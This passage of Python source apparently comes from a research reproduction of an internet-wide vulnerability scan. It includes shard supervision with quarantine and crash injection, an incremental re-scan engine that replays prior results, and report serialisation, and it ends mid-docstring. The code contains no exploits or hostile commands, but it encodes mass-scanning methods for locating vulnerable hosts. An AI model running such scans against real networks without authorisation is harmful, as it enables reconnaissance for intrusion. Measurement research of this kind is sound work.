        self.telemetry = telemetry
        self.quarantine = Quarantine(
            config.quarantine_threshold, config.quarantine_block_threshold
        )
        self.deadline = config.effective_deadline
        self.deadline_hit = False
        self.poison_events = 0
        self.stall_events = 0
        self.gate_skips_total = 0
        self._gate_skips_pending = 0
        self._last_activity = clock.now
        self._next_heartbeat = config.heartbeat_every

    # -- deadline ------------------------------------------------------------

    def should_stop(self) -> bool:
        """Has this shard's clock budget run out?"""
        if self.deadline is None or self.clock.now < self.deadline:
            return False
        self.deadline_hit = True
        return True

    # -- quarantine gate -----------------------------------------------------

    def is_quarantined(self, ip: IPv4Address) -> bool:
        return self.quarantine.is_quarantined(ip.value)

    def is_quarantined_value(self, value: int) -> bool:
        return self.quarantine.is_quarantined(value)

    def note_gate_skip(self, ip: IPv4Address) -> None:
        """Stage I refused to probe a quarantined address."""
        self.gate_skips_total += 1
        self._gate_skips_pending += 1
        self._count("supervisor_gate_skips_total")

    def drain_gate_skips(self) -> int:
        """Gate skips since the last drain (one batch's worth)."""
        pending = self._gate_skips_pending
        self._gate_skips_pending = 0
        return pending

    # -- incident intake -----------------------------------------------------

    def note_poison(self, ip: IPv4Address) -> None:
        """The executor classified a response from ``ip`` as poison."""
        self.poison_events += 1
        self._count("supervisor_poison_total")
        self._strike(ip, "poison")

    def note_activity(self, ip: IPv4Address) -> None:
        """Progress pulse from the executor, after every operation.

        A single operation that burns ``stall_window`` seconds of shard
        clock — a tarpit eating watchdog budgets and backoff across its
        retries — flags the shard as stalled and strikes the target that
        held it up.
        """
        elapsed = self.clock.now - self._last_activity
        self._last_activity = self.clock.now
        if elapsed < self.config.stall_window:
            return
        self.stall_events += 1
        self._count("supervisor_stall_total")
        if self.telemetry is not None:
            self.telemetry.events.warn(
                "supervisor", "stall", host=ip, elapsed=elapsed,
            )
        self._strike(ip, "stall")

    def heartbeat(self, completed: int) -> None:
        """Progress heartbeat, emitted every ``heartbeat_every`` addresses."""
        if completed < self._next_heartbeat:
            return
        while self._next_heartbeat <= completed:
            self._next_heartbeat += self.config.heartbeat_every
        if self.telemetry is not None:
            self.telemetry.events.info(
                "supervisor", "heartbeat",
                addresses=completed, planned=self.planned,
            )

    # -- internals -----------------------------------------------------------

    def _strike(self, ip: IPv4Address, reason: str) -> None:
        host_new, block_new = self.quarantine.strike(ip.value)
        if host_new:
            self._count("supervisor_quarantined_total", scope="host")
            if self.telemetry is not None:
                self.telemetry.events.warn(
                    "supervisor", "quarantine-host", host=ip, reason=reason,
                )
        if block_new:
            self._count("supervisor_quarantined_total", scope="slash24")
            if self.telemetry is not None:
                self.telemetry.events.warn(
                    "supervisor", "quarantine-block",
                    host=IPv4Address(ip.value & 0xFFFFFF00), reason=reason,
                )

    def _count(self, name: str, **labels: object) -> None:
        if self.telemetry is not None:
            self.telemetry.metrics.counter(name, **labels).inc()


@dataclass
class SupervisedShardRunner(ShardRunner):
    """The shard runner with the escalation ladder's worker-side rungs.

    Like its base, this crosses the pickle boundary whole in process
    mode, so everything the ladder needs inside a worker — restart
    budget, deadlines, crash injection — must live in the (picklable)
    :class:`SupervisorConfig`.  Custom ``crash_hook`` callables are a
    thread-mode test hook only.
    """

    config: SupervisorConfig = None  # always set by SweepSupervisor
    crash_hook: object = None

    def _execute(self, shard: Shard) -> dict:
        """Run one shard under the restart rung of the ladder.

        Each attempt is a fresh private universe with the same seeds, so
        a retry after a mid-shard crash cannot diverge from what an
        uninterrupted attempt would have produced.  Only ``Exception``
        triggers a restart: kill signals (``BaseException``) must keep
        propagating or checkpoint/kill tests would deadlock the ladder.
        """
        cfg = self.config
        last: Exception | None = None
        for attempt in range(cfg.max_shard_restarts + 1):
            try:
                self._crash(shard.index, attempt)
                sub = self._build_pipeline(shard)
                report = sub.run(shard.addresses)
            except Exception as exc:
                last = exc
                continue
            payload = self._payload(shard, sub, report)
            payload["supervisor"] = {"restarts": attempt, "abandoned": False}
            return payload
        return self._abandoned_payload(shard, last)

    def _crash(self, shard_index: int, attempt: int) -> None:
        """Deterministic crash injection, config-driven by default."""
        if self.crash_hook is not None:
            self.crash_hook(shard_index, attempt)
            return
        for index, crashes in self.config.crash_shards:
            if index == shard_index and attempt < crashes:
                raise ShardCrash(
                    f"injected crash: shard {shard_index} attempt {attempt}"
                )

    def _build_pipeline(self, shard: Shard):
        from repro.core.pipeline import ScanPipeline

        cfg = self.config
        clock = SimClock()
        transport = self.transport.fork(shard.seed, clock)
        self._arm_watchdog(transport)
        supervision = ShardSupervision(
            cfg, clock, planned=len(shard.addresses)
        )
        sub = ScanPipeline(
            transport=transport,
            ports=self.ports,
            seed=shard.seed,
            batch_size=self.batch_size,
            fingerprint=self.fingerprint,
            use_prefilter=self.use_prefilter,
            knowledge_base=self.knowledge_base,
            # The quarantine gate lives in the executor, so supervised
            # shards always run one (with the parent policy when given).
            retry_policy=(
                self.retry_policy
                if self.retry_policy is not None
                else RetryPolicy()
            ),
            clock=clock,
            supervision=supervision,
            profile=self.profile,
        )
        supervision.telemetry = sub.telemetry
        return sub

    def _arm_watchdog(self, transport) -> None:
        """Set the per-probe deadline on the first watchdog-capable layer
        of the (decorator) transport chain."""
        if self.config.probe_deadline is None:
            return
        target = transport
        while target is not None:
            if hasattr(target, "watchdog"):
                target.watchdog = self.config.probe_deadline
                return
            target = getattr(target, "inner", None)

    def _abandoned_payload(self, shard: Shard, error: Exception | None) -> dict:
        """The degraded result of a shard that exhausted its restarts.

        A stub report accounting the shard's whole frame as unreachable
        — built from plain data, so an abandoned shard folded live and
        one folded out of a resumed checkpoint are identical.
        """
        from repro.core.pipeline import ScanReport

        planned = len(shard.addresses)
        report = ScanReport()
        report.coverage.charge("masscan", planned, 0, unreachable=planned)
        telemetry = Telemetry()
        telemetry.funnel("masscan", planned, 0)
        report.telemetry = telemetry.summary()
        return {
            "report": report_to_dict(report),
            "telemetry": telemetry.snapshot_state(),
            "transport_stats": TransportStats().to_dict(),
            "addresses": 0,
            "supervisor": {
                "restarts": self.config.max_shard_restarts,
                "abandoned": True,
                "error": f"{type(error).__name__}: {error}",
            },
        }


class SweepSupervisor(ParallelScanEngine):
    """The sharded engine wrapped in the escalation ladder.

    Dispatched by :class:`~repro.core.pipeline.ScanPipeline` when its
    ``supervisor`` config is set.  Inherits sharding, folding, and
    shard-boundary checkpointing; adds per-shard supervision, bounded
    restarts, abandonment, and the fold-time coverage reconciliation
    that makes a degraded report trustworthy.
    """

    def __init__(
        self,
        pipeline,
        workers: int,
        shard_blocks: int = DEFAULT_SHARD_BLOCKS,
        config: SupervisorConfig | None = None,
        crash_hook=None,
        executor: str = "thread",
        mp_start_method: str | None = None,
    ) -> None:
        super().__init__(
            pipeline, workers, shard_blocks,
            executor=executor, mp_start_method=mp_start_method,
        )
        self.config = config if config is not None else SupervisorConfig()
        #: called as ``crash_hook(shard_index, attempt)`` at the start of
        #: every shard attempt; raising simulates a dying worker.  None
        #: (the default) honours ``config.crash_shards``, which — being
        #: plain config — also works across the process boundary.
        self.crash_hook = crash_hook
        self._restart_total = 0
        self._abandon_total = 0

    # -- shard execution ------------------------------------------------------

    def _make_runner(self, knowledge_base) -> SupervisedShardRunner:
        if self.crash_hook is not None and self.executor == "process":
            raise ValueError(
                "a custom crash_hook is thread-executor only; use "
                "SupervisorConfig.crash_shards for process-mode injection"
            )
        pipe = self.pipeline
        return SupervisedShardRunner(
            transport=pipe.transport,
            ports=tuple(pipe.ports),
            batch_size=pipe.batch_size,
            fingerprint=pipe.fingerprint,
            use_prefilter=pipe.use_prefilter,
            knowledge_base=knowledge_base,
            retry_policy=pipe.retry_policy,
            profile=pipe.profile,
            config=self.config,
            crash_hook=self.crash_hook,
        )

    # -- fold (main thread) ---------------------------------------------------

    def _note_shard_folded(self, shard: Shard, payload: dict) -> None:
        """Emit the supervision record in canonical shard order.

        Restart and abandonment events are deliberately *not* emitted
        live from worker threads: replaying them from payload metadata
        during the fold keeps the telemetry stream identical across
        worker counts and across kill-and-resume (where restarts that
        happened before the kill are folded from the checkpoint).
        """
        meta = payload.get("supervisor")
        if meta is None:
            return
        events = self.pipeline.telemetry.events
        if meta["restarts"]:
            self._restart_total += meta["restarts"]
            events.warn(
                "supervisor", "shard-restart",
                index=shard.index, restarts=meta["restarts"],
            )
        if meta["abandoned"]:
            self._abandon_total += 1
            events.error(
                "supervisor", "shard-abandoned",
                index=shard.index, error=meta.get("error"),
            )

    def _fold(self, shards: list[Shard], completed: dict[int, dict]):
        self._restart_total = 0
        self._abandon_total = 0
        report = super()._fold(shards, completed)
        cov = report.coverage
        cov.shard_restarts += self._restart_total
        cov.shards_abandoned += self._abandon_total
        telemetry = self.pipeline.telemetry
        if cov.degraded:
            telemetry.events.warn(
                "supervisor", "sweep-degraded",
                coverage=round(cov.coverage_fraction(), 6),
                quarantined_hosts=len(cov.quarantined_hosts),
                quarantined_blocks=len(cov.quarantined_blocks),
                shards_abandoned=cov.shards_abandoned,
                deadline_hits=cov.deadline_hits,
            )
        # The events above landed after the base fold took its summary.
        report.telemetry = telemetry.summary()
        # A degraded report is only trustworthy if its books balance:
        # every stage ledger must close and must add up to the report's
        # own totals.  Fail loudly here rather than ship bad accounting.
        cov.verify()
        cov.reconcile(report)
        return report

    # -- checkpoint/resume ----------------------------------------------------

    def _expected_config(self, shards: list[Shard]) -> dict:
        cfg = self.config
        return {
            **super()._expected_config(shards),
            "sweep_deadline": cfg.sweep_deadline,
            "shard_deadline": cfg.shard_deadline,
            "probe_deadline": cfg.probe_deadline,
            "max_shard_restarts": cfg.max_shard_restarts,
            "quarantine_threshold": cfg.quarantine_threshold,
        }
