"""Incremental re-scan engine for longevity campaigns.

The paper's longevity study (Figure 2) re-scans the same frame every
three hours for four weeks.  Re-running the full pipeline 224 times pays
the stage-II/III cost for every open host every time, even though almost
nothing changes between sweeps.  This engine runs stage I in full (the
cheap liveness probe — with an interval frame, dead runs are skipped
wholesale), diffs the result against the prior sweep, and re-runs the
expensive later stages only for hosts in *churned* /24 blocks.  Every
other host's stage-II/III contribution is replayed from the prior
sweep's per-host ledger.

The headline invariant: the :class:`~repro.core.pipeline.ScanReport` an
incremental sweep produces is **byte-identical** to the report a
from-scratch :meth:`ScanPipeline.run` over the same frame would produce
— same findings in the same order, same response tallies, same telemetry
summary, same reconciling coverage ledger.  The serialised report is a
pure function of the world and the seed, never of how much was reused.

How the replay stays exact:

* stage I runs for real, so ``open_ports`` (probe order) and every
  masscan counter are live;
* the ledger stores, per open host, its ``(port, scheme)`` response
  sequence, its serialised finding, and the flat telemetry deltas
  (counters / event count / span count) its stage-II/III work produced;
* batches are processed in canonical order and hosts in sorted order
  within each batch — exactly the pipeline's order — so replayed
  ``stats.note`` calls and finding insertions interleave with fresh ones
  in the same sequence a full sweep would produce;
* funnel and coverage are charged live with the full per-batch numbers,
  so :meth:`CoverageReport.reconcile` holds for incremental passes too.

Churn detection is two-sided: port-level changes (hosts going offline,
new hosts, opened/closed ports) are self-detected from the stage-I diff;
content-only changes (a fix deployed, a version upgrade behind the same
open port) cannot be seen by stage I, so callers pass the blocks their
churn feeds (lifecycle fates, CT-log hits) flag as ``churned_blocks``.
Deep-probing an unchanged host in a churned block reproduces its prior
results, so over-reporting churn costs only time, never correctness.

Checkpoint/resume: an interrupted incremental pass resumes bit-identically
— phase A (stage I) is deterministic and re-runs, completed batches
replay from the checkpointed ledger, and the rest runs live.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Sequence

from repro.core.checkpoint import Checkpointer, check_config_matches
from repro.core.masscan import PortScanResult
from repro.core.pipeline import ScanPipeline, ScanReport
from repro.core.serialize import (
    finding_from_dict,
    finding_to_dict,
    report_from_dict,
    report_to_dict,
)
from repro.net.http import Scheme
from repro.net.intervals import BLOCK_MASK, IntervalSet
from repro.net.ipv4 import IPv4Address
from repro.obs.telemetry import TelemetrySummary
from repro.util.errors import ConfigError
from repro.util.rand import stable_hash

RESCAN_FORMAT_VERSION = 1


@dataclass
class HostRecord:
    """One open host's stage-II/III contribution to a sweep.

    Everything needed to replay the host without touching the network:
    the responses it gave stage II (in probe order), its finding (if the
    prefilter matched anything), and the telemetry deltas its fresh
    probe-and-verify produced.  Records are the unit of reuse *and* the
    unit of checkpointing, which is what makes resumed and uninterrupted
    incremental passes bit-identical.
    """

    value: int
    #: ``(port, scheme value)`` pairs in the order stage II recorded them
    responses: tuple[tuple[int, str], ...] = ()
    #: serialised finding entry (see ``finding_to_dict``), or None
    finding: dict | None = None
    #: flat counter-name -> delta from this host's stage-II/III work
    counters: dict[str, float] = field(default_factory=dict)
    events: int = 0
    spans: int = 0

    def to_dict(self) -> dict:
        return {
            "ip": self.value,
            "responses": [[port, scheme] for port, scheme in self.responses],
            "finding": self.finding,
            "counters": dict(self.counters),
            "events": self.events,
            "spans": self.spans,
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "HostRecord":
        return cls(
            value=int(payload["ip"]),
            responses=tuple(
                (int(port), str(scheme)) for port, scheme in payload["responses"]
            ),
            finding=payload["finding"],
            counters={k: float(v) for k, v in payload["counters"].items()},
            events=int(payload["events"]),
            spans=int(payload["spans"]),
        )


@dataclass
class RescanState:
    """A completed sweep in replayable form: report + per-host ledger."""

    report: ScanReport
    records: dict[int, HostRecord]
    frame: IntervalSet
    seed: int
    ports: tuple[int, ...]
    batch_size: int
    fingerprint: bool

    def to_dict(self) -> dict:
        return {
            "format_version": RESCAN_FORMAT_VERSION,
            "config": {
                "seed": self.seed,
                "ports": list(self.ports),
                "batch_size": self.batch_size,
                "fingerprint": self.fingerprint,
            },
            "frame": self.frame.to_dict(),
            "report": report_to_dict(self.report),
            "records": [
                self.records[value].to_dict() for value in sorted(self.records)
            ],
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "RescanState":
        version = payload.get("format_version")
        if version != RESCAN_FORMAT_VERSION:
            raise ConfigError(
                f"unsupported rescan state format version: {version!r}"
            )
        config = payload["config"]
        records = {}
        for raw in payload["records"]:
            record = HostRecord.from_dict(raw)
            records[record.value] = record
        return cls(
            report=report_from_dict(payload["report"]),
            records=records,
            frame=IntervalSet.from_dict(payload["frame"]),
            seed=int(config["seed"]),
            ports=tuple(config["ports"]),
            batch_size=int(config["batch_size"]),
            fingerprint=bool(config["fingerprint"]),
        )


def save_rescan_state(state: RescanState, path: str | Path) -> None:
    """Write a sweep's replayable state as JSON (``--rescan-from`` input)."""
    Path(path).write_text(json.dumps(state.to_dict(), indent=1))


def load_rescan_state(path: str | Path) -> RescanState:
    """Load a state previously written by :func:`save_rescan_state`."""
    return RescanState.from_dict(json.loads(Path(path).read_text()))


@dataclass
class RescanEngine:
    """Drives baseline and incremental sweeps over one interval frame.

    The engine owns the determinism constraints: sweeps run sequentially
    (no workers), without retry or supervision — those paths consume
    per-probe randomness that replayed hosts would not consume, breaking
    byte-identity.  Every sweep builds a fresh
    :class:`~repro.core.pipeline.ScanPipeline` internally, so telemetry,
    RNGs, and stage state always start from the seed.
    """

    transport: object
    ports: tuple[int, ...]
    seed: int = 0
    batch_size: int = 4096
    fingerprint: bool = True
    knowledge_base: object | None = None

    # -- public API -----------------------------------------------------

    def baseline(
        self, frame: IntervalSet, checkpoint: Checkpointer | None = None
    ) -> RescanState:
        """A from-scratch sweep, recorded so later sweeps can reuse it."""
        return self._sweep(frame, None, set(), checkpoint)

    def rescan(
        self,
        frame: IntervalSet,
        prior: RescanState,
        churned_blocks: Iterable[int | IPv4Address] = (),
        checkpoint: Checkpointer | None = None,
    ) -> RescanState:
        """An incremental sweep against ``prior``.

        ``churned_blocks`` marks /24s whose hosts may have changed
        *content* without changing their open ports (lifecycle fates,
        CT-log churn); port-level changes are self-detected from the
        stage-I diff.  Accepts block bases or any address inside the
        block.
        """
        self._check_prior(frame, prior)
        hinted = {
            (b.value if isinstance(b, IPv4Address) else int(b)) & BLOCK_MASK
            for b in churned_blocks
        }
        return self._sweep(frame, prior, hinted, checkpoint)

    # -- sweep ----------------------------------------------------------

    def _sweep(
        self,
        frame: IntervalSet,
        prior: RescanState | None,
        hinted: set[int],
        checkpoint: Checkpointer | None,
    ) -> RescanState:
        pipe = ScanPipeline(
            transport=self.transport,
            ports=self.ports,
            seed=self.seed,
            batch_size=self.batch_size,
            fingerprint=self.fingerprint,
            knowledge_base=self.knowledge_base,
        )
        tel = pipe.telemetry
        prior_hash = None
        resumed_records: dict[int, HostRecord] = {}
        resumed_batches = 0
        if checkpoint is not None:
            prior_hash = self._run_hash(frame, prior, hinted)
            payload = checkpoint.load()
            if payload is not None:
                check_config_matches(
                    payload,
                    engine="rescan",
                    seed=self.seed,
                    ports=list(self.ports),
                    batch_size=self.batch_size,
                    fingerprint=self.fingerprint,
                    run_hash=prior_hash,
                )
                resumed_batches = payload["batches_done"]
                resumed_records = {
                    int(value): HostRecord.from_dict(raw)
                    for value, raw in payload["records"].items()
                }

        # Phase A: the full port scan.  Runs for real every sweep — this
        # is the "cheap liveness probe" (interval frames skip dead runs
        # wholesale) — and must complete before later stages so churn is
        # judged on whole /24 blocks, which batch boundaries can split.
        report = ScanReport()
        tel.events.info(
            "pipeline", "sweep-start",
            ports=len(self.ports), batch_size=self.batch_size,
        )
        tel.tracer.start("sweep")
        batches: list[PortScanResult] = []
        for batch in pipe._masscan.scan_in_batches(frame, self.batch_size):
            report.port_scan.merge(batch)
            batches.append(batch)

        churned = set(hinted)
        if prior is None:
            reusable: set[int] = set()
        else:
            churned |= self._diff_churned_blocks(
                prior.report.port_scan.open_ports, report.port_scan.open_ports
            )
            reusable = {
                value for value in report.port_scan.open_ports
                if (value & BLOCK_MASK) not in churned
                and value in prior.records
            }

        # Phase B: later stages per batch, in canonical batch order.
        # Fresh hosts run the real stages; reusable hosts replay their
        # ledger record.  Funnel/coverage are charged live with the full
        # numbers either way, so the account reconciles.
        records: dict[int, HostRecord] = {}
        synthetic = TelemetrySummary()
        for index, batch in enumerate(batches):
            replay_all = index < resumed_batches
            self._run_batch(
                pipe, report, batch, index,
                prior, reusable, records, synthetic,
                resumed_records if replay_all else None,
            )
            if checkpoint is not None and checkpoint.due(index + 1):
                checkpoint.save({
                    "engine": "rescan",
                    "seed": self.seed,
                    "ports": list(self.ports),
                    "batch_size": self.batch_size,
                    "fingerprint": self.fingerprint,
                    "run_hash": prior_hash,
                    "batches_done": index + 1,
                    "records": {
                        str(value): record.to_dict()
                        for value, record in records.items()
                    },
                })

        sweep_span = tel.tracer.end()
        sweep_span.attrs["addresses"] = report.port_scan.addresses_scanned
        sweep_span.attrs["batches"] = len(batches)
        tel.events.info(
            "pipeline", "sweep-complete",
            addresses=report.port_scan.addresses_scanned,
            awe_hosts=report.total_awe_hosts(),
            mav_hosts=len(report.vulnerable_ips()),
        )
        pipe._fold_prefilter_stats(report)
        summary = tel.summary()
        summary.merge(synthetic)
        report.telemetry = summary
        report.coverage = pipe._coverage.copy()
        # In-memory detections match a serialisation round trip: rebuilt
        # from findings, so fresh and replayed hosts are indistinguishable.
        report.detections = [
            observation.detection
            for finding in report.findings.values()
            for observation in finding.observations.values()
            if observation.detection is not None
        ]
        if checkpoint is not None:
            checkpoint.clear()
        return RescanState(
            report=report,
            records=records,
            frame=frame,
            seed=self.seed,
            ports=tuple(self.ports),
            batch_size=self.batch_size,
            fingerprint=self.fingerprint,
        )

    def _run_batch(
        self,
        pipe: ScanPipeline,
        report: ScanReport,
        batch: PortScanResult,
        index: int,
        prior: RescanState | None,
        reusable: set[int],
        records: dict[int, HostRecord],
        synthetic: TelemetrySummary,
        replay_records: dict[int, HostRecord] | None,
    ) -> None:
        """Stages II/III for one batch, mirroring the pipeline's charges.

        ``replay_records`` is set when resuming: the batch completed
        before the interruption, so *every* host replays from the
        checkpointed ledger (including hosts that ran fresh back then —
        their records carry the captured deltas).
        """
        tel = pipe.telemetry
        prefilter = pipe._prefilter
        batch_span = tel.tracer.start("batch", index=index)
        entered = batch.addresses_scanned
        open_hosts = len(batch.open_ports)
        tel.funnel("masscan", entered, open_hosts)
        pipe._coverage.charge("masscan", entered, open_hosts)
        hosts = batch.hosts_with_open_ports()

        def record_for(ip: IPv4Address) -> HostRecord | None:
            if replay_records is not None:
                return replay_records.get(ip.value)
            if prior is not None and ip.value in reusable:
                return prior.records.get(ip.value)
            return None

        fresh_findings: dict[int, list] = {}
        with tel.tracer.span("stage:prefilter", hosts=open_hosts):
            for ip in hosts:
                record = record_for(ip)
                if record is not None:
                    for port, scheme in record.responses:
                        prefilter.stats.note(ip, port, Scheme(scheme))
                    continue
                before = self._capture(tel)
                http_seen = dict(prefilter.stats.http_responses)
                https_seen = dict(prefilter.stats.https_responses)
                findings = []
                for port in batch.ports_of(ip):
                    findings.extend(prefilter.probe(ip, port))
                fresh_findings[ip.value] = findings
                responses = []
                for port in batch.ports_of(ip):
                    for scheme in prefilter.schemes_for_port(port):
                        seen = (
                            http_seen if scheme is Scheme.HTTP else https_seen
                        )
                        now = (
                            prefilter.stats.http_responses
                            if scheme is Scheme.HTTP
                            else prefilter.stats.https_responses
                        )
                        if now.get(port, 0) > seen.get(port, 0):
                            responses.append((port, scheme.value))
                records[ip.value] = HostRecord(
                    value=ip.value, responses=tuple(responses),
                )
                self._charge_record(records[ip.value], before, self._capture(tel))

        candidate_values = []
        for ip in hosts:
            record = record_for(ip)
            if record is not None:
                if record.finding is not None:
                    candidate_values.append(ip.value)
            elif fresh_findings.get(ip.value):
                candidate_values.append(ip.value)
        tel.funnel("prefilter", open_hosts, len(candidate_values))
        pipe._coverage.charge("prefilter", open_hosts, len(candidate_values))

        with tel.tracer.span("stage:tsunami", hosts=len(candidate_values)):
            for ip in hosts:
                record = record_for(ip)
                if record is not None:
                    if record.finding is not None:
                        # Reused records come verbatim from the prior
                        # sweep, so its (immutable) finding object can be
                        # shared instead of re-parsed.  Checkpoint-replay
                        # records are *this* sweep's results and may
                        # differ from the prior report — always re-parse.
                        finding = None
                        if replay_records is None and prior is not None:
                            finding = prior.report.findings.get(ip.value)
                        if finding is None:
                            finding = finding_from_dict(record.finding)
                        report.findings[ip.value] = finding
                    records[ip.value] = record
                    synthetic.merge(
                        TelemetrySummary(
                            dict(record.counters), record.events, record.spans
                        )
                    )
                    continue
                findings = fresh_findings.get(ip.value, ())
                before = self._capture(tel)
                for finding in findings:
                    pipe._verify_and_fingerprint(finding, report)
                self._charge_record(
                    records[ip.value], before, self._capture(tel)
                )
                host_finding = report.findings.get(ip.value)
                if host_finding is not None:
                    records[ip.value].finding = finding_to_dict(host_finding)

        vulnerable_hosts = sum(
            1 for value in candidate_values
            if report.findings[value].vulnerable_slugs
        )
        tel.funnel("tsunami", len(candidate_values), vulnerable_hosts)
        pipe._coverage.charge(
            "tsunami", len(candidate_values), vulnerable_hosts
        )
        batch_span.attrs["addresses"] = batch.addresses_scanned
        tel.tracer.end(batch_span)
        tel.events.info(
            "pipeline", "batch-complete",
            index=index,
            addresses=batch.addresses_scanned,
            open_hosts=len(batch.open_ports),
        )

    # -- helpers --------------------------------------------------------

    @staticmethod
    def _capture(tel) -> tuple[dict[str, float], int, int]:
        return (
            tel.metrics.counters_flat(),
            len(tel.events),
            len(tel.tracer.finished),
        )

    @staticmethod
    def _charge_record(
        record: HostRecord,
        before: tuple[dict[str, float], int, int],
        after: tuple[dict[str, float], int, int],
    ) -> None:
        """Fold a captured live-telemetry delta into a host record."""
        for name, value in after[0].items():
            delta = value - before[0].get(name, 0.0)
            if delta:
                record.counters[name] = record.counters.get(name, 0.0) + delta
        record.events += after[1] - before[1]
        record.spans += after[2] - before[2]

    @staticmethod
    def _diff_churned_blocks(
        prior_open: dict[int, tuple[int, ...]],
        current_open: dict[int, tuple[int, ...]],
    ) -> set[int]:
        """Blocks whose stage-I picture changed since the prior sweep."""
        churned = set()
        for value, ports in current_open.items():
            if prior_open.get(value) != ports:
                churned.add(value & BLOCK_MASK)
        for value, ports in prior_open.items():
            if current_open.get(value) != ports:
                churned.add(value & BLOCK_MASK)
        return churned

    def _check_prior(self, frame: IntervalSet, prior: RescanState) -> None:
        if prior.frame != frame:
            raise ConfigError(
                "prior rescan state covers a different frame; incremental "
                "re-scans must diff against the same candidate frame"
            )
        for name, ours, theirs in (
            ("seed", self.seed, prior.seed),
            ("ports", tuple(self.ports), tuple(prior.ports)),
            ("batch_size", self.batch_size, prior.batch_size),
            ("fingerprint", self.fingerprint, prior.fingerprint),
        ):
            if ours != theirs:
                raise ConfigError(
                    f"prior rescan state was taken with {name}={theirs!r}, "
                    f"but this engine uses {name}={ours!r}"
                )

    def _run_hash(
        self,
        frame: IntervalSet,
        prior: RescanState | None,
        hinted: set[int],
    ) -> int:
        """Fingerprint of everything a resumed pass must agree on."""
        prior_digest = None
        if prior is not None:
            prior_digest = stable_hash(
                json.dumps(report_to_dict(prior.report), sort_keys=True)
            )
        return stable_hash(frame.runs, sorted(hinted), prior_digest)


def run_full_sweep(
    transport: object,
    ports: Sequence[int],
    frame: IntervalSet,
    seed: int = 0,
    batch_size: int = 4096,
    fingerprint: bool = True,
    knowledge_base: object | None = None,
) -> ScanReport:
    """A from-scratch sequential pipeline sweep (the equivalence oracle).

    The longevity experiment and the determinism tests compare incremental
    reports against this — same configuration the engine builds internally.
    """
    pipe = ScanPipeline(
        transport=transport,
        ports=tuple(ports),
        seed=seed,
        batch_size=batch_size,
        fingerprint=fingerprint,
        knowledge_base=knowledge_base,
    )
    return pipe.run(frame)
