"""Persist scan results to JSON and load them back.

A real measurement pipeline separates collection from analysis: the scan
runs once (22 hours, 64 machines) and the analysis iterates offline.
This module serialises a :class:`~repro.core.pipeline.ScanReport` to a
stable JSON document — findings, detections, fingerprints, port counts —
so analyses can re-run without re-scanning.
"""

from __future__ import annotations

import json
from pathlib import Path

from repro.core.coverage import CoverageReport
from repro.core.fingerprint.fingerprinter import Fingerprint, FingerprintMethod
from repro.core.pipeline import AppObservation, HostFinding, ScanReport
from repro.core.retry import RetryStats
from repro.core.tsunami.plugin import DetectionReport
from repro.obs.telemetry import TelemetrySummary
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address

FORMAT_VERSION = 1


def finding_to_dict(finding: HostFinding) -> dict:
    """One host's stage-II/III results as a JSON-safe entry."""
    observations = []
    for observation in finding.observations.values():
        entry: dict = {
            "slug": observation.slug,
            "port": observation.port,
            "scheme": observation.scheme.value,
            "vulnerable": observation.vulnerable,
        }
        if observation.fingerprint is not None:
            entry["fingerprint"] = {
                "slug": observation.fingerprint.slug,
                "version": observation.fingerprint.version,
                "method": observation.fingerprint.method.value,
            }
        if observation.detection is not None:
            entry["detection"] = {
                "title": observation.detection.title,
                "details": observation.detection.details,
            }
        observations.append(entry)
    return {"ip": str(finding.ip), "observations": observations}


def finding_from_dict(entry: dict) -> HostFinding:
    """Rebuild one host's finding from :func:`finding_to_dict` output."""
    ip = IPv4Address.parse(entry["ip"])
    finding = HostFinding(ip)
    for raw in entry["observations"]:
        observation = AppObservation(
            ip=ip,
            slug=raw["slug"],
            port=raw["port"],
            scheme=Scheme(raw["scheme"]),
            vulnerable=raw["vulnerable"],
        )
        fingerprint = raw.get("fingerprint")
        if fingerprint:
            observation.fingerprint = Fingerprint(
                slug=fingerprint["slug"],
                version=fingerprint["version"],
                method=FingerprintMethod(fingerprint["method"]),
            )
        detection = raw.get("detection")
        if detection:
            observation.detection = DetectionReport(
                ip=ip,
                port=raw["port"],
                scheme=Scheme(raw["scheme"]),
                slug=raw["slug"],
                title=detection["title"],
                details=detection["details"],
            )
        finding.observations[raw["slug"]] = observation
    return finding


def report_to_dict(report: ScanReport) -> dict:
    """A JSON-safe dictionary capturing the whole report."""
    findings = [
        finding_to_dict(finding) for finding in report.findings.values()
    ]
    return {
        "format_version": FORMAT_VERSION,
        "open_ports": {
            str(IPv4Address(value)): list(ports)
            for value, ports in report.port_scan.open_ports.items()
        },
        "probes_sent": report.port_scan.probes_sent,
        "addresses_scanned": report.port_scan.addresses_scanned,
        "http_responses": dict(report.http_responses),
        "https_responses": dict(report.https_responses),
        "retry_stats": report.retry_stats.to_dict(),
        "telemetry": report.telemetry.to_dict(),
        "coverage": report.coverage.to_dict(),
        "findings": findings,
    }


def report_from_dict(payload: dict) -> ScanReport:
    """Rebuild a report from :func:`report_to_dict` output."""
    version = payload.get("format_version")
    if version != FORMAT_VERSION:
        raise ValueError(f"unsupported report format version: {version!r}")
    report = ScanReport()
    for text, ports in payload["open_ports"].items():
        report.port_scan.record(IPv4Address.parse(text), ports)
    report.port_scan.probes_sent = payload["probes_sent"]
    report.port_scan.addresses_scanned = payload["addresses_scanned"]
    report.http_responses = {int(k): v for k, v in payload["http_responses"].items()}
    report.https_responses = {int(k): v for k, v in payload["https_responses"].items()}
    # Reports written before the resilience layer carry no retry block,
    # ones from before the telemetry layer no telemetry block, and ones
    # from before the supervised runtime no coverage block.
    report.retry_stats = RetryStats.from_dict(payload.get("retry_stats", {}))
    report.telemetry = TelemetrySummary.from_dict(payload.get("telemetry", {}))
    report.coverage = CoverageReport.from_dict(payload.get("coverage", {}))

    for entry in payload["findings"]:
        finding = finding_from_dict(entry)
        report.findings[finding.ip.value] = finding
        report.detections.extend(
            o.detection for o in finding.observations.values()
            if o.detection is not None
        )
    return report


def save_report(report: ScanReport, path: str | Path) -> None:
    """Write the report as (indented) JSON."""
    Path(path).write_text(json.dumps(report_to_dict(report), indent=1))


def load_report(path: str | Path) -> ScanReport:
    """Load a report previously written by :func:`save_report`."""
    return report_from_dict(json.loads(Path(path).read_text()))
