"""Checkpoint/resume for long sweeps.

The paper's scan ran 22 hours on 64 machines; a production sweep that
dies at hour 20 cannot afford to start over.  The pipeline periodically
serialises its progress — completed addresses, the partial
:class:`~repro.core.pipeline.ScanReport`, stage-II counters, retry and
